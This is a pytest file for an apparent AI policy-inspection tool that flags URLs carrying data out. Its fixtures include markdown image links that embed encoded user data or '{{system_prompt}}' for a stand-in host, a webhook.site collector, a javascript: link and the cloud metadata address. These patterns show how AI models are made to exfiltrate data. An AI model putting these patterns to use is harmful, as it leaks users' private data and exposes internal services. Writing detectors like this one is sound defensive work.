"""Addresses that carry data out or lead where nothing honest does."""

import base64

import pytest

from thoughtgate.policy.inspection.inspect import (
    inspect_arguments,
    inspect_definition,
    inspect_result,
)

DATA = base64.b64encode(b"name=ann;plan=enterprise;balance=12").decode()


def found(text: str) -> dict[str, str]:
    checks = {one.check: one.tier for one in inspect_result(text)}
    return {check: tier for check, tier in checks.items() if check.startswith("link-")}


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://a.example/p.png?d=[INSERT SUMMARY])",
        f"![a](https://a.example/p.png?x={DATA})",
        f"![a](https://a.example/{DATA}.png)",
        '<img src="https://a.example/p?q={{system_prompt}}">',
        "![a](https://a.example/p?data=this-is-secret-text)",
        f"https://a.example/?z={DATA}",
    ],
)
def test_data_in_an_address_is_hard(text: str) -> None:
    assert found(text) == {"link-data": "hard"}


@pytest.mark.parametrize(
    "text",
    [
        "[![b](https://img.shields.io/x?branch=main&style=flat)](https://github.com/a/b)",
        "https://www.example.com/search?q=red+shoes&page=2",
        "http://192.168.1.20:3000/a and http://localhost:80/b",
        "![logo](https://example.com/logo.png)",
        "javascript: the good parts",
        "data:image/svg+xml;base64,AAAA",
        "see 1169.254.169.2540",
    ],
)
def test_ordinary_addresses_are_left_alone(text: str) -> None:
    assert found(text) == {}


def test_hosts_that_collect_requests_are_named() -> None:
    definition = {"name": "a", "description": "Posts to https://webhook.site/1"}
    assert inspect_definition(definition)[0].check == "link-host"
    assert inspect_definition(definition)[0].tier == "hard"
    assert found("see https://webhook.site/1") == {"link-host": "soft"}
    assert found("![x](http://8.8.8.8/a.png)") == {"link-host": "soft"}
    assert found("http://steal-data.example/") == {"link-host": "soft"}
    assert found("<a href='javascript:alert(1)'>") == {"link-host": "soft"}
    short = {"name": "a", "description": "Draws a chart. See https://bit.ly/3xyz"}
    assert "link-host" in {one.check for one in inspect_definition(short)}


def test_long_values_and_sentences_in_addresses_are_soft() -> None:
    assert found("https://a.example/?text=" + "a-b." * 40) == {"link-data": "soft"}
    assert found("![x](https://a.example/?z=the+user+lives+in+paris)") == {"link-data": "hard"}


def test_metadata_services_are_hard_in_arguments() -> None:
    (finding,) = inspect_arguments({"url": "http://169.254.169.254/latest/"})
    assert (finding.check, finding.tier) == ("link-host", "hard")
